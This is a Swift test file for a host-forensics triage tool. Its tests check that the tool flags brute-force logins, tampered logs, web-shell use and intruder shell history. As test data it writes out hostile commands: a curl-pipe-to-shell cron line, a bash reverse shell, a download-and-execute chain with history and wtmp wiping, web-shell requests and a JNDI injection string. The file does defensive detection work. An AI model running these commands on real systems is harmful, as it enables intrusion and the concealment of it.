import CaseModel
import HostFacts
import Testing

@testable import Triage

@Suite struct LogTests {
  private static let start = HostSketch.now.seconds - 5 * 86_400

  private static func event(
    _ kind: LogEventRecord.Kind, _ account: HostString = "root", from address: HostString? = nil, method: String? = nil,
    at seconds: Int64 = 0, _ message: HostString = "m"
  ) -> LogEventRecord {
    var event = LogEventRecord(kind: kind, source: "/var/log/auth.log", message: message, line: Int(seconds) + 1)
    event.time = Timestamp(seconds: start + seconds)
    event.account = account
    event.address = address
    event.method = method
    return event
  }

  private static func guesses(
    _ count: Int, _ account: (Int) -> HostString, from address: HostString = "198.51.100.7", success: HostString,
    method: String = "password"
  ) -> HostSketch {
    var host = HostSketch()
    for number in 0..<count {
      host.facts.append(
        .logEvent(event(.loginFailed, account(number), from: address, method: "password", at: Int64(number * 5))))
    }
    host.facts.append(
      .logEvent(event(.loginAccepted, success, from: address, method: method, at: Int64(count * 5 + 3))))
    return host
  }

  @Test func guessingThatSucceedsIsFound() throws {
    let finding = try #require(Self.guesses(40, { _ in "deploy" }, success: "deploy").finding("log.brute-force"))
    #expect(finding.severity == .high)
    #expect(finding.techniques == ["T1110.001", "T1078"])
    #expect(finding.title.contains("198.51.100.7") && finding.title.contains("deploy"))
    #expect(finding.evidence[0].source == "/var/log/auth.log:204")
  }

  @Test func sprayingThatSucceedsIsNamedSo() {
    let host = Self.guesses(30, { HostString("user\($0 % 10)") }, success: "user3")
    #expect(host.finding("log.brute-force")?.techniques.first == "T1110.003")
  }

  @Test func failuresAloneAndMistypingAreOrdinary() {
    #expect(Self.guesses(3, { _ in "alice" }, success: "alice").findings.isEmpty)
    #expect(Self.guesses(200, { _ in "root" }, success: "ansible", method: "publickey").findings.isEmpty)
    var host = HostSketch()
    for number in 0..<20_000 {
      host.facts.append(
        .logEvent(
          Self.event(
            .loginFailed, HostString("u\(number % 700)"),
            from: HostString("203.0.\(number / 251 % 251).\(number % 251)"), at: Int64(number * 3))))
    }
    host.facts.append(.logEvent(Self.event(.loginAccepted, "alice", from: "192.0.2.4", method: "password", at: 40_000)))
    #expect(host.findings.isEmpty)
    #expect(host.finding("log.brute-force")?.severity == .info)
  }

  @Test func manyPeopleBehindOneAddressAreOrdinary() {
    var host = HostSketch()
    for hour in 0..<48 {
      for person in 0..<4 {
        host.facts.append(
          .logEvent(
            Self.event(.loginFailed, HostString("p\(person)"), from: "192.0.2.1", at: Int64(hour * 3600 + person))))
      }
      host.facts.append(
        .logEvent(Self.event(.loginAccepted, "p1", from: "192.0.2.1", method: "password", at: Int64(hour * 3600 + 60))))
    }
    #expect(host.findings.isEmpty)
  }

  @Test func rootByPasswordFromAStrangerIsFound() {
    #expect(
      HostSketch(.logEvent(Self.event(.loginAccepted, "root", from: "198.51.100.7", method: "password"))).finding(
        "log.root-password-login")?.severity == .medium)
    #expect(
      HostSketch(.logEvent(Self.event(.loginAccepted, "root", from: "10.0.0.7", method: "password"))).findings.isEmpty)
    #expect(
      HostSketch(.logEvent(Self.event(.loginAccepted, "root", from: "198.51.100.7", method: "publickey"))).findings
        .isEmpty)
  }

  @Test func loggedCommandsAreJudged() {
    let cron = HostSketch(.logEvent(Self.event(.cronCommand, "root", "(root) CMD (curl -s http://h.example/x | sh)")))
    #expect(cron.finding("log.command")?.severity == .high)
    #expect(cron.finding("log.command")?.techniques.contains("T1105") == true)
    let sudo = HostSketch(
      .logEvent(
        Self.event(
          .sudo, "bob",
          "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.7/1 0>&1")))
    #expect(sudo.finding("log.command")?.severity == .high)
    let copy = HostSketch(
      .logEvent(
        Self.event(.sudo, "bob", "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/chmod u+s /usr/bin/find")))
    #expect(copy.finding("log.command")?.severity == .high)
    for line: HostString in [
      "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
      "(root) CMD (test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r)",
      "(www-data) CMD (php /var/www/wp-cron.php > /dev/null 2>&1)",
    ] { #expect(HostSketch(.logEvent(Self.event(.cronCommand, "root", line))).findings.isEmpty) }
    #expect(
      HostSketch(
        .logEvent(Self.event(.sudo, "bob", "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/apt update"))
      ).findings.isEmpty)
  }

  @Test func aLoggedSecondRootIsFoundAndANewColleagueIsNot() {
    let root = HostSketch(
      .logEvent(Self.event(.accountChanged, "sys2", "new user: name=sys2, UID=0, GID=0, home=/root, shell=/bin/bash")))
    #expect(root.finding("log.account-change")?.severity == .critical)
    let colleague = HostSketch(
      .logEvent(
        Self.event(.accountChanged, "eve", "new user: name=eve, UID=1004, GID=1004, home=/home/eve, shell=/bin/bash")))
    #expect(colleague.findings.isEmpty)
  }

  private static func log(_ path: HostString, _ kind: String, change: (inout LogFileRecord) -> Void) -> HostSketch {
    var file = LogFileRecord(path: path, kind: kind)
    file.size = 10_000
    file.entries = 100
    file.bornAt = HostSketch.ago(days: 60)
    file.first = HostSketch.ago(days: 60)
    file.last = HostSketch.ago(days: 0)
    file.modifiedAt = HostSketch.ago(days: 0)
    change(&file)
    return HostSketch(.logFile(file))
  }

  @Test func damagedLogsAreFound() {
    #expect(
      Self.log("/var/log/wtmp", "wtmp") { $0.zeroedRecords = 3 }.finding("log.wiped-logins")?.techniques.first
        == "T1070.002")
    #expect(
      Self.log("/var/log/auth.log", "auth") {
        $0.gaps = [
          .init(kind: "zeros", from: HostSketch.ago(days: 3), to: HostSketch.ago(days: 2), offset: 9, length: 400)
        ]
      }.finding("log.holes")?.severity == .medium)
    #expect(
      Self.log("/var/log/auth.log", "auth") { $0.first = HostSketch.ago(days: 1) }.finding("log.truncated")?.severity
        == .medium)
    #expect(
      Self.log("/var/log/auth.log", "auth") {
        $0.size = 0; $0.entries = 0; $0.first = nil
      }.finding("log.truncated")?.severity == .medium)
    #expect(
      Self.log("/var/log/wtmp", "wtmp") { $0.first = HostSketch.ago(days: 2) }.finding("log.truncated")?.severity
        == .high)
    #expect(
      Self.log("/var/log/auth.log", "auth") { $0.linkTarget = "/dev/null" }.finding("log.redirected")?.severity == .high
    )
    #expect(
      Self.log("/var/log/syslog", "syslog") { $0.deletedOpenBy = 77 }.finding("log.redirected")?.techniques.first
        == "T1070.004")
    #expect(Self.log("/var/log/wtmp.1", "wtmp") { _ in }.finding("log.missing")?.severity == .medium)
  }

  @Test func ordinaryLogsGiveNothingAboveInfo() {
    #expect(Self.log("/var/log/auth.log", "auth") { _ in }.findings.isEmpty)
    #expect(Self.log("/var/log/wtmp", "wtmp") { _ in }.findings.isEmpty)
    #expect(
      Self.log("/var/log/wtmp", "wtmp") {
        $0.bornAt = HostSketch.ago(days: 5); $0.first = HostSketch.ago(days: 3)
      }.findings.isEmpty)
    #expect(
      Self.log("/var/log/btmp", "btmp") {
        $0.size = 0; $0.entries = 0; $0.first = nil; $0.modifiedAt = $0.bornAt
      }.findings.isEmpty)
    #expect(
      Self.log("/var/log/auth.log", "auth") {
        $0.size = 0; $0.entries = 0; $0.first = nil; $0.modifiedAt = $0.bornAt
      }.findings.isEmpty)
    #expect(Self.log("/var/log/app/app.log", "other") { $0.deletedOpenBy = 5 }.findings.isEmpty)
    #expect(Self.log("/var/log/nginx/access.log", "access") { $0.linkTarget = "/dev/stdout" }.findings.isEmpty)
    #expect(
      Self.log("/var/log/syslog", "syslog") {
        $0.gaps = [.init(kind: "time", from: HostSketch.ago(days: 31), to: HostSketch.ago(days: 30), offset: 9)]
      }.findings.isEmpty)
  }

  private static func request(_ target: HostString, _ status: Int, method: HostString = "GET") -> HostFact {
    .webRequest(
      WebRequestRecord(
        source: "/var/log/nginx/access.log", line: 7, address: "198.51.100.9", time: HostSketch.now, method: method,
        target: target, status: status, bytes: 10, agent: "x"))
  }

  @Test func aUsedWebShellIsJoinedWithItsFile() throws {
    let file = HostSketch.file("/var/www/html/img/logo.php") { $0.signs = ["php-system-request"] }
    let host = HostSketch(Self.request("/img/logo.php?k=id", 200, method: "POST"), .file(file))
    let finding = try #require(host.finding("log.web-shell-request"))
    #expect(finding.severity == .critical)
    #expect(finding.techniques == ["T1505.003"])
    #expect(finding.evidence.map(\.source) == ["/var/log/nginx/access.log:7", "/var/www/html/img/logo.php"])
  }

  @Test func commandsAnsweredByAnUnknownScriptAreSeen() {
    let host = HostSketch(
      Self.request("/x.php?c=cat+/etc/passwd", 200), Self.request("/x.php?c=id", 200),
      Self.request("/x.php?c=wget%20http://h.example/a%20-O%20/tmp/a", 200))
    #expect(host.finding("log.web-shell-request")?.severity == .medium)
  }

  @Test func theNoiseOfScannersIsInfo() {
    var host = HostSketch()
    for number in 0..<3000 {
      host.facts.append(Self.request(HostString("/\(number)/shell.php?cmd=id"), 404))
      host.facts.append(Self.request(HostString("/cgi-bin/.%2e/.%2e/bin/sh?n=\(number)"), 400))
      host.facts.append(Self.request("/?x=${jndi:ldap://h.example/a}", 200))
    }
    host.facts.append(Self.request("/wp-login.php", 200, method: "POST"))
    host.facts.append(Self.request("/search.php?q=how+to+list+files", 200))
    #expect(host.findings.isEmpty, "\(host.findings.map(\.title))")
    #expect(host.finding("log.web-attack")?.severity == .info)
  }

  private static func history(_ commands: [HostString]) -> HostSketch {
    var host = HostSketch()
    for (number, command) in commands.enumerated() {
      host.facts.append(
        .history(HistoryRecord(account: "root", path: "/root/.bash_history", line: number + 1, command: command)))
    }
    return host
  }

  @Test func anIntrudersHistoryIsFound() throws {
    let host = Self.history([
      "w", "wget http://198.51.100.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "chmod u+s /bin/bash", "history -c",
      "rm -f /var/log/wtmp",
    ])
    let session = try #require(
      host.all.first { $0.id == "history.command" && $0.severity == .high && $0.title.contains("intruder") })
    #expect(
      session.techniques.contains("T1070.003") && session.techniques.contains("T1105")
        && session.techniques.contains("T1059.004"))
    #expect(session.evidence[0].source == "/root/.bash_history:2")
  }

  @Test func aDeedTypedInSeveralLinesIsSeen() {
    let host = Self.history(["cd /opt", "wget http://198.51.100.7/agent", "ls", "chmod 755 agent", "./agent"])
    #expect(host.findings.contains { $0.techniques.contains("T1105") && $0.severity >= .medium })
    let install = Self.history([
      "curl -LO https://dl.example.org/install.sh", "less install.sh", "chmod +x install.sh", "./install.sh",
    ])
    #expect(install.findings.allSatisfy { $0.severity <= .low })
  }

  @Test func anAdministratorsHistoryGivesNothingAboveLow() {
    let host = Self.history([
      "curl -fsSL https://get.docker.com | sh", "apt update && apt upgrade -y", "tail -f /var/log/auth.log",
      "systemctl restart nginx", "vim /etc/ssh/sshd_config", "ssh -L 8080:localhost:80 web-2", "crontab -e",
      "echo 'ssh-ed25519 AAAA me' >> ~/.ssh/authorized_keys", "useradd -m eve", "setenforce 0", "iptables -F",
      "pip install -r requirements.txt", "tar xzf app.tgz -C /opt", "chmod +x deploy.sh && ./deploy.sh",
      "nc -zv db 5432",
      "scp dump.sql bob@backup.example.org:/srv/", "rm -rf /tmp/build", "python3 -m http.server", "kill -9 1234",
      "nohup ./run.sh > out.log 2>&1 &", "cat /etc/passwd", "grep root /etc/shadow",
      "curl http://169.254.169.254/latest/meta-data/instance-id",
    ])
    #expect(host.findings.allSatisfy { $0.severity <= .low }, "\(host.findings.map { "\($0.severity) \($0.title)" })")
  }

  @Test func anEmptiedHistoryIsSeenAndANewOneIsNot() {
    let emptied = HostSketch.file("/root/.bash_history", mode: 0o600) {
      $0.size = 0; $0.modified = HostSketch.ago(days: 1)
    }
    #expect(HostSketch(.file(emptied)).finding("history.emptied")?.techniques == ["T1070.003"])
    let new = HostSketch.file("/root/.bash_history", mode: 0o600) { $0.size = 0 }
    #expect(HostSketch(.file(new)).findings.isEmpty)
  }
}
